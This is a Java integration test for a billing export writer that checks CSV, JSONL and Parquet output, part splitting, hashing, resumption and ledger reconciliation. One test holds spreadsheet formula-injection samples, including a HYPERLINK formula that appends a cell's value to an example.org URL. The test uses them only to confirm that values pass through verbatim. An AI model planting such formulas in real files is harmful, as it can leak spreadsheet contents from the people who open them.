package io.r1platform.billing.exports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.r1platform.billing.BillingFixture;
import io.r1platform.billing.errors.ServiceException;
import io.r1platform.billing.invoices.Closing;
import io.r1platform.billing.usage.InvoiceTraffic;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.dao.PessimisticLockingFailureException;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Files of a month of two organizations, in parts of 25 rows; each test has its own directory. */
class ExportWriterIT {
  private static final String FOCUS = "focus_cost_and_usage";
  private static final long TENANT = 71;
  private static final int REQUESTS = 40;
  private static final int PART_ROWS = 25;
  private static BillingFixture billing;
  private static InvoiceTraffic traffic;
  private static ExportWriter writer;
  private static Datasets datasets;
  private static Instant from;
  private static Instant to;
  private static YearMonth month;

  @TempDir private Path directory;

  @BeforeAll
  static void start() {
    billing = new BillingFixture("--r1.billing.exports.part-rows=" + PART_ROWS);
    writer = billing.bean(ExportWriter.class);
    datasets = billing.bean(Datasets.class);
    traffic = new InvoiceTraffic(billing, new Random(5));
    Instant now = billing.clock().instant();
    month = YearMonth.from(now.atOffset(ZoneOffset.UTC));
    from = month.atDay(1).atStartOfDay(ZoneOffset.UTC).toInstant();
    to = month.plusMonths(1).atDay(1).atStartOfDay(ZoneOffset.UTC).toInstant();
    for (int i = 0; i < REQUESTS; i++) {
      traffic.chargeAny(TENANT, now.plusMillis(i));
    }
    traffic.chargeAny(TENANT + 1, now);
  }

  @AfterAll
  static void stop() {
    billing.close();
  }

  @Test
  void everyFormatHasTheSameRowsInParts() throws IOException {
    var texts = new HashMap<FileFormat, List<String>>();
    for (FileFormat format : FileFormat.values()) {
      Path place = Files.createDirectories(directory.resolve(format.name()));
      Manifest manifest = write(usage(TENANT), format, place);
      assertThat(manifest.rows()).isEqualTo("40");
      assertThat(manifest.parts()).extracting(Manifest.File::rows).containsExactly("25", "15");
      assertThat(manifest.sumPico()).isEqualTo(Map.of("USD", charged(TENANT).toString()));
      for (Manifest.File part : manifest.parts()) {
        Path file = place.resolve(part.file());
        assertThat(Hashes.sha256(file)).isEqualTo(part.sha256());
        assertThat(Long.toString(Files.size(file))).isEqualTo(part.bytes());
      }
      assertThat(onDisk(place)).as("nothing else is left").hasSize(3).contains(Manifest.NAME);
      JsonNode stored =
          JsonMapper.shared().readTree(Files.readString(place.resolve(Manifest.NAME)));
      assertThat(stored.path("sum_pico").path("USD").asString())
          .isEqualTo(charged(TENANT).toString());
      texts.put(
          format,
          Duck.query(
              """
              select event_id, hit_tokens::bigint, cost::decimal(38,18), currency, model,
                left(replace(admitted_at::varchar, ' ', 'T'), 19) || 'Z'
              from %s"""
                  .formatted(Duck.all(place, format))));
    }
    List<String> csv = texts.getOrDefault(FileFormat.CSV, List.of());
    assertThat(csv).hasSize(REQUESTS).allMatch(row -> row.endsWith("Z"));
    assertThat(texts.values()).allMatch(csv::equals);
    assertThat(csv).as("sorted by the key").isSorted();
  }

  @Test
  void parquetHasExactTypes() throws IOException {
    write(usage(TENANT), FileFormat.PARQUET, directory);
    assertThat(
            Duck.query(
                """
                select column_name, column_type from (describe select event_id, admitted_at,
                  hit_tokens, cost from %s)"""
                    .formatted(Duck.all(directory, FileFormat.PARQUET))))
        .containsExactly(
            "event_id|VARCHAR",
            "admitted_at|TIMESTAMP WITH TIME ZONE",
            "hit_tokens|BIGINT",
            "cost|DECIMAL(38,18)");
    assertThat(
            Duck.query(
                "select distinct compression from parquet_metadata('%s/*.parquet')"
                    .formatted(directory)))
        .containsExactly("ZSTD");
  }

  @Test
  void theSameRowsGiveTheSameBytes() throws IOException {
    Scope hours = Scope.of(datasets.named("usage_hourly"), from, to, TENANT);
    for (FileFormat format : List.of(FileFormat.CSV_GZ, FileFormat.JSONL_GZ, FileFormat.PARQUET)) {
      Path place = Files.createDirectories(directory.resolve(format.name()));
      Manifest first = write(hours, format, place);
      assertThat(write(hours, format, place)).as("over itself").isEqualTo(first);
      if (format != FileFormat.PARQUET) {
        byte[] bytes = Files.readAllBytes(place.resolve(first.parts().getFirst().file()));
        assertThat(new byte[] {bytes[4], bytes[5], bytes[6], bytes[7]}).as("mtime").containsOnly(0);
      }
    }
  }

  @Test
  void anEmptyScopeHasAFileWithItsSchema() throws IOException {
    for (FileFormat format : FileFormat.values()) {
      Path place = Files.createDirectories(directory.resolve(format.name()));
      Manifest manifest = write(usage(999L), format, place);
      assertThat(manifest.rows()).isEqualTo("0");
      assertThat(manifest.parts()).hasSize(1);
      Path file = place.resolve(manifest.parts().getFirst().file());
      String first = manifest.columns().getFirst().name();
      switch (format) {
        case CSV -> assertThat(Files.readString(file)).startsWith(first + ",");
        case CSV_GZ -> assertThat(unzipped(file)).startsWith(first + ",");
        case JSONL_GZ -> assertThat(unzipped(file)).isEmpty();
        case PARQUET ->
            assertThat(
                    Duck.query(
                        "select name from parquet_schema('%s') where type is not null"
                            .formatted(file)))
                .hasSameSizeAs(manifest.columns());
      }
    }
  }

  @Test
  void columnsAreSelectedAndOrdered() throws IOException {
    Scope some = usage(TENANT).selecting(List.of("currency", "cost", "batch"));
    Manifest manifest = write(some, FileFormat.CSV, directory);
    assertThat(manifest.columns())
        .extracting(Manifest.ColumnView::name)
        .containsExactly("currency", "cost", "batch");
    assertThat(manifest.sumPico()).containsEntry("USD", charged(TENANT).toString());
    assertThat(Files.readString(directory.resolve("usage_records-00001.csv")))
        .startsWith("currency,cost,batch\nUSD,0.");
    Scope one = usage(TENANT).selecting(List.of("model"));
    assertThat(write(one, FileFormat.CSV, directory).sumPico()).isEmpty();
    for (List<String> wrong : List.of(List.of("price"), List.of("cost", "cost"))) {
      assertThatThrownBy(() -> usage(TENANT).selecting(wrong)).isInstanceOf(ServiceException.class);
    }
  }

  @Test
  void valuesComeThroughAsTheyAre() throws IOException {
    Scope odd = Scope.of(new OddDataset(), from, to, null);
    var expected =
        List.of(
            "1|null|99999999999999999990.999999999999999999|null",
            "2||-0.000000000000000001|{\"a\": \"x, \\\"y\\\"\"}",
            "3|\\N|null|null",
            "4|a,\"b\"\nc\td ☃ 'e'|0.500000000000000000|[1, 2]");
    write(odd, FileFormat.PARQUET, directory);
    assertThat(
            Duck.query(
                "select id, text, cost::varchar, json from %s"
                    .formatted(Duck.all(directory, FileFormat.PARQUET))))
        .isEqualTo(expected);
    write(odd, FileFormat.CSV, directory);
    assertThat(Files.readString(directory.resolve("odd-00001.csv")))
        .contains("\n1,,99999999999999999990.999999999999999999,USD,,\n")
        .contains("\n2,\"\",-0.000000000000000001,USD,");
    write(odd, FileFormat.JSONL_GZ, directory);
    JsonNode last =
        JsonMapper.shared()
            .readTree(unzipped(directory.resolve("odd-00001.jsonl.gz")).lines().toList().getLast());
    assertThat(last.path("text").asString()).isEqualTo("a,\"b\"\nc\td ☃ 'e'");
    assertThat(last.path("cost").asString()).isEqualTo("0.5");
    assertThat(last.path("json").get(1).asInt()).isEqualTo(2);
    assertThat(last.path("at").asString()).isEqualTo("2026-11-01T00:00:00.000001Z");
    for (String column : List.of("text", "json")) {
      Manifest manifest = write(odd.selecting(List.of(column)), FileFormat.CSV, directory);
      assertThat(manifest.rows()).as("a null alone on its line").isEqualTo("4");
    }
  }

  /** Finance's programs read them, and FOCUS forbids another character (decision 0028). */
  @Test
  void whatASpreadsheetWouldComputeIsAsTheCallerSentIt() throws IOException {
    Scope formulas = Scope.of(new FormulaDataset(), from, to, null);
    List<String> expected =
        FormulaDataset.TEXTS.stream().map(text -> text + "|-1.500000000000000000").toList();
    for (FileFormat format : FileFormat.values()) {
      write(formulas, format, directory);
      String all = Duck.all(directory, format);
      assertThat(Duck.query("select text, cost::decimal(38,18)::varchar from %s".formatted(all)))
          .as(format.name())
          .isEqualTo(expected);
    }
    write(formulas, FileFormat.CSV, directory);
    assertThat(Files.readString(directory.resolve("formulas-00001.csv")))
        .contains("\n1,\"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"x\"\")\",-1.5\n")
        .contains("\n2,+49 30 1234,-1.5\n", "\n3,-1,-1.5\n", "\n4,@SUM(A1),-1.5\n");
  }

  @Test
  void aKilledChildLeavesNothingThatLooksWhole() throws IOException {
    Files.writeString(directory.resolve(Manifest.NAME), "of an earlier export");
    var parts = new ArrayList<Part>();
    assertThatThrownBy(
            () ->
                writer.write(
                    usage(TENANT),
                    FileFormat.PARQUET,
                    new FolderTarget(directory),
                    new ExportWriter.Progress() {
                      @Override
                      public void done(Part part) {
                        parts.add(part);
                      }

                      @Override
                      public Optional<Part> kept(int no) {
                        if (no == 2) {
                          killTheNextChild();
                        }
                        return Optional.empty();
                      }
                    }))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("The exporter ended with 137");
    assertThat(parts).hasSize(1);
    assertThat(onDisk(directory)).containsExactly("usage_records-00001.parquet");
  }

  @Test
  void whatTheChildCannotWriteIsSaid() throws IOException {
    Path scratch = Files.createDirectories(directory.resolve("scratch"));
    Path nowhere = directory.resolve("nowhere").resolve("part.parquet");
    try (var child = PartProcess.start(usage(1L), FileFormat.PARQUET, nowhere, scratch, 128)) {
      assertThatThrownBy(child::finish)
          .isInstanceOf(IOException.class)
          .hasMessageContaining("ended with 1")
          .hasMessageContaining("No such file");
    }
  }

  @Test
  void aResumedExportKeepsPartsOfTheSameRows() throws IOException {
    var kept = new TreeMap<Integer, Part>();
    var written = new ArrayList<Integer>();
    var progress =
        new ExportWriter.Progress() {
          @Override
          public void done(Part part) {
            kept.put(part.no(), part);
            written.add(part.no());
          }

          @Override
          public Optional<Part> kept(int no) {
            return Optional.ofNullable(kept.get(no));
          }
        };
    var target = new FolderTarget(directory);
    Manifest first = writer.write(usage(TENANT), FileFormat.CSV_GZ, target, progress);
    Files.delete(directory.resolve("usage_records-00002.csv.gz"));
    assertThat(writer.write(usage(TENANT), FileFormat.CSV_GZ, target, progress)).isEqualTo(first);
    assertThat(written).containsExactly(1, 2, 2);

    assertThatThrownBy(() -> writer.write(usage(null), FileFormat.CSV_GZ, target, progress))
        .isInstanceOf(ExportWriter.RowsChanged.class);
    assertThat(directory.resolve(Manifest.NAME)).as("nothing was changed").exists();
  }

  @Test
  void twoExportsToOnePlaceDoNotMix() throws IOException {
    Scope one = usage(TENANT).selecting(List.of("hit_tokens", "miss_tokens"));
    Scope other = usage(TENANT).selecting(List.of("miss_tokens", "hit_tokens"));
    var kept = new ConcurrentHashMap<Integer, Part>();
    var amid = new CompletableFuture<Void>();
    var goOn = new CompletableFuture<Void>();
    var progress =
        new ExportWriter.Progress() {
          @Override
          public void rows(long rows) throws IOException {
            if (goOn.isDone()) {
              throw new IOException("cancelled");
            }
          }

          @Override
          public void done(Part part) {
            kept.put(part.no(), part);
          }

          @Override
          public Optional<Part> kept(int no) {
            if (no == 2) {
              amid.complete(null);
              goOn.join();
            }
            return Optional.empty();
          }
        };
    var ended = new CompletableFuture<String>();
    Thread.ofVirtual()
        .start(
            () -> {
              try {
                writer.write(one, FileFormat.CSV, new FolderTarget(directory), progress);
                ended.complete("written");
              } catch (IOException | RuntimeException e) {
                amid.complete(null);
                ended.complete(e.getMessage());
              }
            });
    amid.join();
    assertThatThrownBy(() -> write(other, FileFormat.CSV, directory))
        .isInstanceOf(PessimisticLockingFailureException.class);
    goOn.complete(null);
    assertThat(ended.join()).isEqualTo("cancelled");
    assertThat(onDisk(directory)).containsExactly("usage_records-00001.csv");

    Manifest second = write(other, FileFormat.CSV, directory);
    assertThat(second.parts().getFirst().bytes())
        .as("so that the size says nothing")
        .isEqualTo(Long.toString(Objects.requireNonNull(kept.get(1)).bytes()));
    Manifest resumed =
        writer.write(
            one,
            FileFormat.CSV,
            new FolderTarget(directory),
            new ExportWriter.Progress() {
              @Override
              public Optional<Part> kept(int no) {
                return Optional.ofNullable(kept.get(no));
              }
            });
    for (Manifest.File part : resumed.parts()) {
      Path file = directory.resolve(part.file());
      assertThat(Hashes.sha256(file)).isEqualTo(part.sha256());
      assertThat(Files.readString(file)).startsWith("hit_tokens,miss_tokens\n");
    }
  }

  @Test
  void theLedgerIsOfWholeDays() {
    for (Duration off : List.of(Duration.ofHours(1), Duration.ofSeconds(1))) {
      Dataset ledger = datasets.named("ledger_entries");
      assertThatThrownBy(() -> Scope.of(ledger, from.plus(off), to, null))
          .hasMessageContaining("UTC days");
      assertThatThrownBy(() -> Scope.of(ledger, from, to.plus(off), null))
          .hasMessageContaining("UTC days");
    }
  }

  @Test
  void textHasOneFormOfTimes() throws IOException {
    Scope hours = Scope.of(datasets.named("usage_hourly"), from, to, TENANT);
    write(hours.selecting(List.of("hour", "cost")), FileFormat.CSV, directory);
    assertThat(Files.readString(directory.resolve("usage_hourly-00001.csv")))
        .containsPattern("\n\\d{4}-\\d\\d-\\d\\dT\\d\\d:00:00\\.000000Z,");
  }

  @Test
  void usageIsLedgerIsInvoiceLinesToThePico() throws IOException {
    long tenant = 81;
    Instant now = billing.clock().instant();
    for (int i = 0; i < 30; i++) {
      traffic.chargeAny(tenant, now.plusMillis(i));
    }
    billing.clock().set(to.plus(Duration.ofHours(25)));
    JsonNode invoice = new Closing(billing).finalizeMonth(tenant, month);
    billing.clock().set(now);

    Instant later = to.plus(Duration.ofDays(2)); // the invoice's journal is of the next month
    for (String name : List.of("usage_records", "usage_hourly", "ledger_entries", FOCUS)) {
      Path place = Files.createDirectories(directory.resolve(name));
      write(Scope.of(datasets.named(name), from, later, tenant), FileFormat.PARQUET, place);
    }
    BigInteger lines = BigInteger.ZERO;
    for (JsonNode line : invoice.path("lines")) {
      lines = lines.add(new BigInteger(line.path("amount_pico").asString()));
    }
    assertThat(lines.signum()).isPositive();
    assertThat(pico(directory.resolve("usage_records"), "sum(cost)", "true")).isEqualTo(lines);
    assertThat(pico(directory.resolve("usage_records"), "sum(cost_pico)::hugeint / 1e12", "true"))
        .isEqualTo(lines);
    assertThat(pico(directory.resolve("usage_hourly"), "sum(cost)", "true")).isEqualTo(lines);
    assertThat(pico(directory.resolve(FOCUS), "sum(BilledCost)", "true")).isEqualTo(lines);
    Path ledger = directory.resolve("ledger_entries");
    assertThat(pico(ledger, "-sum(amount)", "account = 'revenue'")).isEqualTo(lines);
    assertThat(pico(ledger, "sum(amount)", "account = 'accrued' and kind = 'USAGE'"))
        .isEqualTo(lines);
    assertThat(pico(ledger, "-sum(amount)", "account = 'accrued' and kind = 'INVOICE'"))
        .isEqualTo(lines);
    BigInteger rounding = pico(ledger, "coalesce(sum(amount), 0)", "account = 'rounding'");
    assertThat(pico(ledger, "sum(amount)", "account = 'receivable'").add(rounding))
        .as("total + rounding")
        .isEqualTo(lines);
    assertThat(pico(ledger, "sum(amount)", "true")).isZero();
  }

  private static BigInteger pico(Path place, String sum, String where) {
    String found =
        Duck.query(
                "select cast((%s) * 1000000000000 as decimal(38,0))::varchar from %s where %s"
                    .formatted(sum, Duck.all(place, FileFormat.PARQUET), where))
            .getFirst();
    return new BigInteger(found);
  }

  private static void killTheNextChild() {
    Thread.ofVirtual()
        .start(
            () ->
                Stream.generate(() -> ProcessHandle.current().children())
                    .flatMap(children -> children.filter(ExportWriterIT::isExporter))
                    .findFirst()
                    .ifPresent(ProcessHandle::destroyForcibly));
  }

  /** Whether it runs its own program already: killed before, it would not have started at all. */
  private static boolean isExporter(ProcessHandle child) {
    try {
      return Files.readString(Path.of("/proc/" + child.pid() + "/cmdline"))
          .contains("io.r1platform.exporter.Exporter");
    } catch (IOException e) {
      return false; // gone
    }
  }

  private static Scope usage(@Nullable Long organization) {
    return Scope.of(datasets.named("usage_records"), from, to, organization);
  }

  private static BigInteger charged(long tenant) {
    return billing.sum("amount_pico", "usage_record where tenant_id = " + tenant);
  }

  private static Manifest write(Scope scope, FileFormat format, Path place) throws IOException {
    return writer.write(scope, format, new FolderTarget(place), new ExportWriter.Progress() {});
  }

  private static List<String> onDisk(Path place) throws IOException {
    try (Stream<Path> files = Files.walk(place)) {
      return files
          .filter(Files::isRegularFile)
          .map(file -> file.getFileName().toString())
          .sorted()
          .toList();
    }
  }

  private static String unzipped(Path file) throws IOException {
    try (var in = new GZIPInputStream(new ByteArrayInputStream(Files.readAllBytes(file)))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }
}
